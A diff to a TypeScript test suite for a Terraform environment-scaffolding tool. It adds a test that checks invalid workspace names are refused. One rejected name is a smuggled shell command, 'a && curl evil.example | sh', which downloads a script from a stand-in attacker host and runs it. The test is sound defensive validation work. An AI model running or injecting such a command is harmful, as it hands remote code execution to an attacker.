@@ -156,7 +156,7 @@ describe('environments', () => {
     const before = { ...samplePlatform('minimal'), '.gitlab-ci.yml': 'plan:\n  script: terraform plan\n' };
     const { texts, notes } = await scaffolded(before, 'environment', { env: 'edge' });
     assert.equal(texts['.gitlab-ci.yml'], before['.gitlab-ci.yml']);
-    assert.match(notes.join('\n'), /\.gitlab-ci\.yml is not like[\s\S]*ops, edge, apps/);
+    assert.match(notes.join('\n'), /\.gitlab-ci\.yml differs from[\s\S]*ops, edge, apps/);
   });
 
   for (const [kind, answers, problem] of [
@@ -177,6 +177,25 @@ describe('environments', () => {
       assert.match((await refused(samplePlatform('minimal'), kind, answers)).join('\n'), problem);
     });
   }
+
+  it('end up in no command when they can’t be workspaces', async () => {
+    const before = samplePlatform('minimal');
+    for (const name of ['--help', 'a && curl evil.example | sh', '..', 'a`b']) {
+      const texts = Object.fromEntries(
+        Object.entries(before).map(([path, text]) => [path, text.replace(/\bops = \{/, `${JSON.stringify(name)} = {`)]),
+      );
+      assert.notDeepEqual(texts, before);
+      for (const [kind, answers] of [
+        ['removeEnvironment', { env: name, confirm: name }],
+        ['environment', { env: 'apps-dev' }],
+        ['renameEnvironment', { env: name, to: 'ops' }],
+      ] as const)
+        assert.match(
+          (await refused(texts, kind, answers)).join('\n'),
+          /^uri: The environment ".*" can't be a Terraform workspace/,
+        );
+    }
+  });
 
   it('are confirmed by name before they go', async () => {
     const { texts } = await scaffolded(samplePlatform('minimal'), 'environment', { env: 'edge' });
